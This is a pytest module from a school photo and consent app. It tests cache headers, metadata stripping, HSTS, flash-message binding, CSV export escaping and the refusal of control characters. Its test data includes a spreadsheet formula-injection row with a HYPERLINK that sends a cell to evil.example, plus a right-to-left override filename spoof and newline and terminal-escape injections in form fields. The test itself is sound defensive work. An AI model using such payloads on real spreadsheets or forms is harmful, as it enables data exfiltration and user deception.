"""What the pages and files hand out (R8, R10): children's pictures are kept in no browser cache and
carry no metadata, https answers bind the browser to https, the messages after a change are the
server's own words, exports cannot run formulas in a spreadsheet, and names cannot hide characters.

Each test runs on a fresh database of each engine, in this process (`tests.web.inprocess`)."""

import csv
import io
from datetime import date, timedelta
from pathlib import Path

from sqlalchemy import select

from mediacheck.check import PhotoChecker
from models.roster_csv import parse_roster
from models.school import Student
from models.school_service import find_student, import_roster
from tests.metadata import metadata_left, with_metadata
from tests.records.builders import TODAY, roster
from tests.samples import EVENTS
from tests.web.audiences import csrf_token
from tests.web.inprocess import SEED, LocalApp

HOSTILE = (
    '9001,=HYPERLINK("http://evil.example/?"&A1),+31 6 1234,2014-03-04,7B,,'
    "@SUM(1+1),petra@example.org,-2+3,jan@example.org"
)


def a_photo_with_a_comment(local: LocalApp, checker: PhotoChecker) -> tuple[int, int]:
    """A checked photo whose stored original still has a comment and camera data (stored before
    originals were cleaned); returns the media id and a face id."""
    media_id = local.add_photo(checker, EVENTS / "obama_and_biden.jpg", "sports.jpg")
    media = local.media(media_id)
    stored = Path(media.storage_path)
    with_metadata(stored, stored.with_name("old.jpg")).replace(stored)
    return media_id, media.faces[0].id


def test_r8_pictures_of_children_are_kept_in_no_browser_cache(local: LocalApp, web_checker: PhotoChecker) -> None:
    media_id, face_id = a_photo_with_a_comment(local, web_checker)
    with local.client("admin") as admin:
        answers = [
            admin.get(path)
            for path in (
                f"/media/{media_id}/thumb",
                f"/media/{media_id}/view",
                f"/media/{media_id}/preview/protected",
                f"/review/faces/{face_id}/crop",
            )
        ]
    assert [(a.status_code, a.headers["cache-control"]) for a in answers] == [(200, "no-store")] * 4


def test_r10_thumbnails_face_pictures_and_previews_carry_no_metadata(
    local: LocalApp, web_checker: PhotoChecker
) -> None:
    media_id, face_id = a_photo_with_a_comment(local, web_checker)
    paths = ["thumb", "view", "preview/protected", "preview/public"]
    with local.client("admin") as admin:
        images = {path: admin.get(f"/media/{media_id}/{path}") for path in paths}
        images["face"] = admin.get(f"/review/faces/{face_id}/crop")
    assert {path: answer.status_code for path, answer in images.items()} == dict.fromkeys([*paths, "face"], 200)
    assert {path: metadata_left(answer.content) for path, answer in images.items()} == {path: [] for path in images}


def test_r8_hsts_over_https_only(local: LocalApp) -> None:
    with local.client("admin", base_url="https://localhost") as secure:
        assert secure.get("/admin").headers["strict-transport-security"].startswith("max-age=")
    with local.client("admin") as plain:
        answer = plain.get("/admin", headers={"X-Forwarded-Proto": "https"})  # no trusted proxy said so
        assert answer.status_code == 200 and "strict-transport-security" not in answer.headers


def test_r8_the_message_after_a_change_comes_from_the_server_not_the_link(local: LocalApp) -> None:
    with local.factory.begin() as session:
        import_roster(session, parse_roster(roster(HOSTILE.replace("9001", "9002")), TODAY), SEED, TODAY)
        student_id = find_student(session, "9002").id
    forged = "Your account is locked. Call 0900-1234 to unlock it."
    with local.client("admin") as admin:
        assert forged not in admin.get(f"/admin/students/{student_id}", params={"done": forged}).text
        done = admin.post(f"/admin/students/{student_id}/revoke-links", data={"csrf_token": csrf_token(admin)})
        assert done.status_code == 200 and "0 link(s) revoked" in done.text, "the redirect shows the server's words"
        assert "link(s) revoked" not in admin.get(f"/admin/students/{student_id}").text, "once"
    with local.client("admin") as other_session:  # the message is bound to the session it was made for
        other_session.cookies.set("mc_flash", done.history[0].cookies["mc_flash"])
        assert "link(s) revoked" not in other_session.get(f"/admin/students/{student_id}").text


def test_r8_csv_exports_cannot_run_formulas(local: LocalApp) -> None:
    with local.factory.begin() as session:
        import_roster(session, parse_roster(roster(HOSTILE), TODAY), SEED, TODAY)
    with local.client("admin") as admin:
        consents = admin.get("/admin/consents.csv", params={"group": "7B"})
        valid_until = (date.today() + timedelta(days=60)).isoformat()
        links = admin.post("/admin/links", data={"valid_until": valid_until, "csrf_token": csrf_token(admin)})
    cells = [cell for export in (consents, links) for row in csv.reader(io.StringIO(export.text)) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?"&A1)' in cells and "'+31 6 1234" in cells
    assert "'@SUM(1+1)" in cells and "'-2+3" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


def test_r8_names_with_control_characters_are_refused_in_forms(local: LocalApp) -> None:
    with local.client("admin") as admin:
        token = csrf_token(admin)
        album = admin.post("/albums", data={"name": "Trip\u202egpj.exe", "csrf_token": token})
        account = admin.post(
            "/admin/staff",
            data={
                "username": "eve",
                "display_name": "Eve\nadmin: approved",
                "role": "teacher",
                "password": "a-long-password-1",
                "csrf_token": token,
            },
        )
        imported = admin.post(
            "/admin/students/import",
            data={"csrf_token": token},
            files={"file": ("students.csv", roster("9003,Bad\x1b[2J,Name,2014-03-04,7B,,,,,").encode())},
        )
    assert (album.status_code, account.status_code, imported.status_code) == (400, 400, 400)
    assert all("control character" in answer.text for answer in (album, account, imported))
    with local.factory() as session:
        assert session.scalar(select(Student.id).where(Student.student_number == "9003")) is None
